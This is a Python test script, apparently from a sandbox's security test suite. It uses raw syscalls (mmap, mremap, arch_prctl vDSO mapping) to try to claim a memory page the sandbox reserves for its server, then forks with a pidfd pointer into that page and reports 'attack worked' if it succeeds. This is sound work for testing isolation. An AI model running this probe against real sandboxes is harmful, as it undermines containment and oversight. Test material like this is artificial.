"""Fork as the box itself does, with a pointer to the page that only its server has, after making one there.

group = 10
expect = { A = "ok", B = "ok", C = "ok" }
"""

import ctypes
import errno
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
address, size = ctypes.c_void_p, ctypes.c_size_t
libc.mmap.argtypes, libc.mmap.restype = (address, size, *[ctypes.c_int] * 3, ctypes.c_long), address
libc.mremap.argtypes, libc.mremap.restype = (address, size, size, ctypes.c_int, address), address
PAGE, BELOW, ABOVE = 0x1000_8000_0000, 0xFFF_F000_0000, 0x1001_0000_0000
FAILED, ANYWHERE, FIXED, GROWSDOWN = ctypes.c_void_p(-1).value, 0x4022, 0x4032, 0x4122


def taken(place, length, flags):
    return libc.mmap(place, length, 3, flags, -1, 0) not in (None, FAILED)


def moved():
    own = libc.mmap(None, 4096, 3, ANYWHERE, -1, 0)
    return libc.mremap(own, 4096, 4096, 3, PAGE) == PAGE


def grown():
    return taken(BELOW, 4096, ANYWHERE) and libc.mremap(BELOW, 4096, PAGE + 4096 - BELOW, 0, None) == BELOW


def grown_down():
    return taken(ABOVE, 4096, GROWSDOWN)


def kernels_own():
    """Have the kernel map its own page for time calls there: it does so once, so the first has to go."""
    libc.syscall(ctypes.c_long(158), ctypes.c_long(0x2003), ctypes.c_long(PAGE))
    if ctypes.get_errno() != errno.EEXIST:
        return False
    libc.getauxval.restype = ctypes.c_ulong
    first = libc.getauxval(33)
    libc.munmap(ctypes.c_void_p(first - 0x6000), ctypes.c_size_t(0x8000))
    for before in (0x6000, 0x4000, 0):
        libc.syscall(ctypes.c_long(158), ctypes.c_long(0x2003), ctypes.c_long(PAGE - before))
    return libc.mprotect(ctypes.c_void_p(PAGE), ctypes.c_size_t(4096), 3) == 0


def forks(pointer):
    number = 56 if platform.machine() == "x86_64" else 220
    arguments = 0x01001011, 0, pointer, 0, 0
    pid = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(argument) for argument in arguments))
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
    return pid > 0


pidfd = ctypes.c_int()
worked = forks(ctypes.addressof(pidfd)) or forks(PAGE)
ways = [
    lambda: grown_down() and False,
    lambda: taken(PAGE, 4096, FIXED),
    lambda: taken(PAGE, 4096, ANYWHERE),
    lambda: taken(BELOW, PAGE + 4096 - BELOW, FIXED),
    moved,
    grown,
    kernels_own,
]
for way in ways:
    worked = (way() and forks(PAGE)) or worked
if worked:
    print("attack worked")
